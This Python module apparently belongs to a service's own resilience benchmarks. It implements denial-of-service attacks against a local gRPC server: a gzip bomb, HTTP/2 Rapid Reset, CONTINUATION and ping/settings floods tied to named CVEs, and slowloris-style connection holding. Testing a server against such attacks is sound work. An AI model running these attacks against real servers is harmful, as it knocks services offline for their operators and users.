"""Attacks of those who have no token."""

import dataclasses
import itertools
import socket
import time
import urllib.request
import zlib
from contextlib import suppress
from typing import Any

from benchmarks.attacks.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    ELSEWHERE,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HERE,
    PING,
    RESET,
    SETTINGS,
    Connection,
    frame,
    header_block,
)
from benchmarks.attacks.kinds import Attack, Bounds, Stop, Tally, in_threads
from benchmarks.attacks.scene import Target

CHECK = "/grpc.health.v1.Health/Check"
EMBED = "/gfp_serve.v1.EmbeddingService/Embed"
SEARCH = "/gfp_serve.v1.GalleryService/Search"
BOMB_MIB = 1024
MANY = 1200  # connections: more than a server takes by default
WATCHERS, WATCHES = 5, 80  # connections, and watches of each
STREAMS, BURST, BURSTS = 200, 200, 10
AGAIN_S = 5.0  # after this time calls that are held are opened again
MOST_HEADER_BYTES = 64 * 2**20  # sent on one connection, if the server lets it


def bomb(_: Target) -> bytes:
    """A message of one large field of zeros that no service knows, in gzip: a thousandth of its size."""
    length, number = b"", BOMB_MIB << 20
    while number >= 128:
        length += bytes([number & 127 | 128])
        number >>= 7
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(bytes([15 << 3 | 2]) + length + bytes([number]))
    block = bytes(2**20)
    for _ in range(BOMB_MIB):
        packed += packer.compress(block)
    return packed + packer.flush()


def gzip_bombs(target: Target, content: bytes, stop: Stop, tally: Tally) -> None:
    methods = (
        *(CHECK, "/grpc.health.v1.Health/Watch", EMBED, SEARCH, "/gfp_serve.v1.StreamService/EmbedStream"),
        *("/gfp_serve.v1.SnapshotService/ListSnapshots", "/inference.GRPCInferenceService/ServerLive"),
        "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    )
    tally.facts["megabytes of a bomb"] = round(len(content) / 1e6, 2)
    for method, token in itertools.cycle(itertools.product(methods, (None, target.read))):
        if stop.is_set():
            return
        with suppress(OSError), Connection(target.port) as connection:
            got = connection.call(method, content, token=token, encoding="gzip")
            tally.count(got)
            if got == "OK":
                tally.fault(f"{method} took a message of {BOMB_MIB} MiB in gzip")


def health_watches(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    _watch_health(target, ELSEWHERE, stop, tally)


def health_watches_from_here(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    _watch_health(target, HERE, stop, tally)


def _watch_health(target: Target, source: str, stop: Stop, tally: Tally) -> None:
    block, message = header_block("/grpc.health.v1.Health/Watch"), bytes(5)
    opening = b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
        for stream in range(1, 2 * WATCHES, 2)
    )

    held, refused = [set[int]() for _ in range(WATCHERS)], [set[int]() for _ in range(WATCHERS)]

    def is_enough() -> bool:
        # Not before all are answered: who leaves early makes room for the others.
        return stop.is_set() and sum(map(len, held)) + sum(map(len, refused)) >= WATCHERS * WATCHES

    def hold(place: int) -> None:
        try:
            with Connection(target.port, source=source) as connection:
                connection.socket.sendall(opening)
                for kind, flags, stream, _content in connection.frames(is_enough):
                    if kind == DATA:
                        held[place].add(stream)
                    elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
                        held[place].discard(stream)
                        refused[place].add(stream)
        except OSError:
            tally.count("connections ended")
        refused[place].update(set(range(1, 2 * WATCHES, 2)) - held[place])

    in_threads(WATCHERS, hold)
    tally.count("watches held", sum(map(len, held)))
    tally.count("watches refused", sum(map(len, refused)))
    if tally.got["watches held"] > 64:
        tally.fault(f"one address holds {tally.got['watches held']} watches of health")


def unsent_messages(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Open calls, and send the first bytes of a message that never comes whole."""
    hold_calls(target, None, stop, tally)


def hold_calls(target: Target, token: str | None, stop: Stop, tally: Tally) -> None:
    """Open calls of several services over several connections, again when these are closed."""
    part = (0).to_bytes(1, "big") + (60 * 2**20).to_bytes(4, "big") + bytes(100)
    opening = b"".join(
        frame(HEADERS, END_HEADERS, stream, header_block(path, token)) + frame(DATA, 0, stream, part)
        for stream, path in zip(range(1, 2 * STREAMS, 2), itertools.cycle((CHECK, EMBED, SEARCH)), strict=False)
    )

    def hold(_: int) -> None:
        while not stop.is_set():
            with suppress(OSError), Connection(target.port) as connection:
                connection.socket.sendall(opening)
                tally.count("calls opened", STREAMS)
                _count_refusals(connection, stop, tally)

    in_threads(4, hold)


def _count_refusals(connection: Connection, stop: Stop, tally: Tally) -> None:
    end = time.monotonic() + AGAIN_S
    for kind, _flags, _stream, _content in connection.frames(lambda: stop.is_set() or time.monotonic() > end):
        if kind == RESET:
            tally.count("streams reset")
        elif kind == HEADERS:
            tally.count("calls refused")


def silent_connections(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Open connections and say nothing; open them again when they are closed."""
    _hold_connections(target.port, b"", stop, tally)


def half_open_connections(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Open connections that say hello and then nothing."""
    _hold_connections(target.port, Connection.HELLO, stop, tally)


def _hold_connections(port: int, hello: bytes, stop: Stop, tally: Tally, number: int = MANY) -> None:
    held: list[socket.socket] = []
    while not stop.is_set():
        for each in [each for each in held if _is_closed(each)]:
            each.close()
            held.remove(each)
            tally.count("connections closed")
        while len(held) < number and not stop.is_set():
            try:
                held.append(socket.create_connection((HERE, port), timeout=5, source_address=(ELSEWHERE, 0)))
                held[-1].sendall(hello)
                tally.count("connections opened")
            except OSError:
                tally.count("connections refused")
                break
        stop.wait(0.2)
    tally.facts["connections held at the end"] = sum(not _is_closed(each) for each in held)
    for each in held:
        each.close()


def _is_closed(held: socket.socket) -> bool:
    held.setblocking(False)
    try:
        while True:
            if not held.recv(65_536):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def connection_flood(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Connect, say hello, and leave, as fast as that goes."""

    def flood(_: int) -> None:
        while not stop.is_set():
            try:
                with Connection(target.port):
                    tally.count("connections opened")
            except OSError:
                tally.count("connections refused")

    in_threads(2, flood)


def rapid_reset(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Open calls and reset them at once (CVE-2023-44487)."""
    block = header_block(SEARCH)

    def attack(_: int) -> None:
        while not stop.is_set():
            with suppress(OSError), Connection(target.port, timeout_s=5) as connection:
                for first in range(1, 2 * BURST * BURSTS, 2 * BURST):
                    if stop.is_set():
                        return
                    burst = range(first, first + 2 * BURST, 2)
                    connection.socket.sendall(
                        b"".join(
                            frame(HEADERS, END_HEADERS, stream, block)
                            + frame(RESET, 0, stream, CANCEL.to_bytes(4, "big"))
                            for stream in burst
                        )
                    )
                    tally.count("streams opened and reset", BURST)

    in_threads(4, attack)


def endless_headers(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Go on with the headers of one call for ever (CVE-2024-27316)."""
    piece = b"".join(b"\0\x04x-%02x\x7f" % number + bytes([97]) * 127 for number in range(100))

    def attack(_: int) -> None:
        while not stop.is_set():
            sent = 0
            try:
                with Connection(target.port) as connection:
                    connection.socket.sendall(frame(HEADERS, 0, 1, header_block(CHECK)))
                    while sent < MOST_HEADER_BYTES and not stop.is_set():
                        connection.socket.sendall(frame(CONTINUATION, 0, 1, piece))
                        sent += len(piece)
            except OSError:
                tally.count("connection ended")
                continue
            if stop.is_set():
                tally.count("connection held")
            else:
                tally.fault(f"a connection took {MOST_HEADER_BYTES} bytes of headers")

    in_threads(2, attack)


def control_frames(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Send pings and settings as fast as that goes, and read none of the answers (CVE-2019-9512, CVE-2019-9515)."""
    burst = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500

    def attack(_: int) -> None:
        while not stop.is_set():
            try:
                with Connection(target.port, timeout_s=2) as connection:
                    while not stop.is_set():
                        connection.socket.sendall(burst)
                        tally.count("frames sent", 1000)
            except OSError:
                tally.count("connection ended")

    in_threads(2, attack)


def half_sent_scrapes(target: Target, _: Any, stop: Stop, tally: Tally) -> None:
    """Fill the port of metrics with requests that never end, while somebody scrapes it."""
    waits: list[float] = []

    def scrape() -> None:
        while not stop.is_set():
            begin = time.monotonic()
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{target.metrics_port}/metrics", timeout=10) as reply:
                    reply.read()
                tally.count("scrapes answered")
                waits.append(time.monotonic() - begin)
            except OSError:
                tally.count("scrapes failed")
            stop.wait(0.5)

    def attack(number: int) -> None:
        if number == 0:
            scrape()
        else:
            _hold_connections(target.metrics_port, b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-", stop, tally, number=200)

    in_threads(2, attack)
    tally.facts["slowest scrape, ms"] = round(1e3 * max(waits), 1) if waits else None
    if not waits:
        tally.fault("no scrape was answered")


# gRPC's server for Python cannot bound this; a proxy in front can (see the page Operate). Those who are connected
# already must be served, and memory must stay.
NEEDS_A_PROXY = Bounds(new_connections=None)
# Nor this: who sends faster than the server can refuse.
NEEDS_A_PROXY_ABOVE_ALL = Bounds(
    memory_mb=None, health_p99_ms=None, search_p99_ms=None, failures=None, new_connections=None
)

STRANGERS = {
    "gzip-bombs": Attack(
        does=f"{BOMB_MIB} MiB of zeros as a megabyte of gzip, to every service, without a token and with one",
        prepare=bomb,
        run=gzip_bombs,
    ),
    "health-watches": Attack(
        does=f"{WATCHERS * WATCHES} watches of health over {WATCHERS} connections, from another address",
        run=health_watches,
    ),
    "health-watches-from-here": Attack(
        does=f"{WATCHERS * WATCHES} watches of health over {WATCHERS} connections, from the honest callers' address",
        run=health_watches_from_here,
    ),
    "unsent-messages": Attack(
        does=f"{4 * STREAMS} calls over 4 connections whose messages never come, without a token", run=unsent_messages
    ),
    "silent-connections": Attack(
        does=f"{MANY} connections that say nothing", run=silent_connections, bounds=NEEDS_A_PROXY
    ),
    "half-open-connections": Attack(
        does=f"{MANY} connections that say hello and then nothing", run=half_open_connections, bounds=NEEDS_A_PROXY
    ),
    "connection-flood": Attack(
        does="connections that are left at once, as fast as that goes",
        run=connection_flood,
        bounds=dataclasses.replace(NEEDS_A_PROXY_ABOVE_ALL, memory_mb=300),
    ),
    "rapid-reset": Attack(
        does="calls that are reset at once, over 4 connections at a time",
        run=rapid_reset,
        bounds=NEEDS_A_PROXY_ABOVE_ALL,
        beside_others=False,  # nobody else is answered meanwhile, so there would be nothing to compare
    ),
    "endless-headers": Attack(does="headers that go on for ever, over 2 connections", run=endless_headers),
    "control-frames": Attack(does="pings and settings as fast as that goes, answers not read", run=control_frames),
    "half-sent-scrapes": Attack(
        does="200 requests to the port of metrics that never end, beside somebody who scrapes it",
        run=half_sent_scrapes,
    ),
}
